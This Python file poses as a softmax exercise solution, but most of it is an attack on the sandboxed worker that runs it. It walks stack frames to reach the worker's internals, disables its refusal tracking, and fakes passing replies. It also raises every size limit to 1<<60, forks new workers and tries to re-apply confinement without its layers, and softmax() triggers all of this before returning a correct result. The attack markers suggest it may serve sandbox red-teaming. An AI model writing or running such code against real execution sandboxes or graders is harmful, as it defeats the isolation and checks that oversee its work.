"""Takes the worker apart that serves it: its loop, its encoder, its limits, its refusals, its socket.

Exercise: perceptron/softmax
"""

import os, sys
import torch

# attack
LOOT = []


def tried(ways):
    found = []
    for name, way in ways.items():
        try:
            found.append(f"{name}={way()!r}"[:200])
        except BaseException:
            pass
    return f"{len(found)} of {len(ways)} worked: {found}"


def modules():
    """The worker's modules as dictionaries of their names: they are in no sys.modules, but behind every frame."""
    frame, found = sys._getframe(), {}
    while frame is not None:
        found[frame.f_globals["__name__"].rpartition(".")[2]] = frame.f_globals
        frame = frame.f_back
    worker = found["worker"]
    return found | {
        "protocol": vars(worker["protocol"]), "values": worker["Encoder"].encode.__globals__, "modules": worker["MemoryModules"].load.__globals__,
        "refusal": vars(worker["refusal"]),
    }


sandbox = modules()


def stolen():
    frame, found = sys._getframe(), {}
    while frame is not None:
        found |= {name: value for name, value in frame.f_locals.items() if name in ("server", "self", "sock", "confinement", "limits", "refuse")}
        frame = frame.f_back
    return found


def quiet():
    server = stolen()["self"]
    server._refused = type("Nothing", (list,), {"append": lambda self, item: None, "__getitem__": lambda self, item: []})()
    server._take_refused = lambda: []
    return server._handlers


def passing(request):
    reply = sandbox["protocol"]["Returned"](value=["T", "float32", [1, 2], False, True, False, "cpu"])
    return reply, sandbox["values"]["Encoder"]()


def served():
    server = stolen()["self"]
    server._handlers = {kind: passing for kind in server._handlers}
    server.answer = lambda request, body: (passing(request)[0], [bytes(8)])
    return server


def patched():
    encoder = sandbox["values"]["Encoder"]
    encoder.encode = lambda self, value, depth=0: ["T", "float32", [1, 2], False, True, False, "cpu"]
    encoder.buffers = [bytes(8)]
    for name in ("MAX_ITEMS", "MAX_DEPTH", "MAX_HEAD", "MAX_BODY", "FLOOD", "MAX_TEXT", "MAX_PRINTED"):
        for names in sandbox.values():
            names[name] = 1 << 60
    return True


def zygote():
    names = sandbox["zygote"]
    return names["run"](stolen()["sock"], "torch", "cpu")


def confined():
    """The old confinement once more, without its layers; it holds what the kernel was asked for."""
    return stolen()["confinement"].apply(stolen()["limits"], os.getppid())


WAYS = {
    "quiet": quiet, "served": served, "patched": patched, "again": confined, "zygote": zygote,
    "fork": lambda: sandbox["zygote"]["_fork_worker"]("cpu", stolen()["confinement"], 3, stolen()["limits"], []) or 1 / 0,
    "freed": lambda: sandbox["refusal"]["lock_interpreter"].__code__.co_consts,
}
# end


def softmax(X):
    # attack
    print(tried({name: way for name, way in WAYS.items() if (name in ("zygote", "fork")) == (X.dim() == 1)}))
    return torch.softmax(X, 1)
    # end
    return X * 0 + 0.123
